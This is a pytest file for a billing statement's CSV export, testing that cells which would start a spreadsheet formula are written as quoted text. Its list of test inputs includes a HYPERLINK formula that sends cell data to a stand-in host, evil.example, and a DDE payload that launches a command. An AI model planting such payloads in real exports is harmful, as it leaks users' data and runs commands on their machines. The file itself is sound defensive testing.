"""The billing statement's CSV: text a spreadsheet would run as a formula is written as text,
numbers as numbers (OWASP, "CSV Injection")."""

from __future__ import annotations

import csv
import io

import pytest

from propdata.accounts.billing import COLUMNS, Line, statement_csv

HOSTILE = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+1+1", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]  # fmt: skip


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("name", HOSTILE)
def test_a_cell_that_would_start_a_formula_is_text(name: str) -> None:
    line = Line("key_0123456789ab", name, "2027-01", "pro", 11.667, 199, 74.89)
    header, row = _rows(statement_csv([line]))
    assert tuple(header) == COLUMNS
    assert row[1] == "'" + name  # the leading quote: a spreadsheet shows the rest as typed
    assert row[4:] == ["11.667", "199", "74.89"]  # numbers stay numbers


def test_plain_text_and_numbers_are_as_they_were() -> None:
    lines = [Line("key_a", "Default key", "2027-01", "pro", 5.0, 199, 33.17),
             Line("key_b", "ops é 2027", "2027-01", "enterprise", 31.0, None, None),
             Line("key_c", "a=b, \"quoted\"", "2027-01", "free", 1.5, 0, 0.0)]  # fmt: skip
    rows = _rows(statement_csv(lines))[1:]
    assert rows == [
        ["key_a", "Default key", "2027-01", "pro", "5.000", "199", "33.17"],
        ["key_b", "ops é 2027", "2027-01", "enterprise", "31.000", "", ""],
        ["key_c", 'a=b, "quoted"', "2027-01", "free", "1.500", "0", "0.00"],
    ]
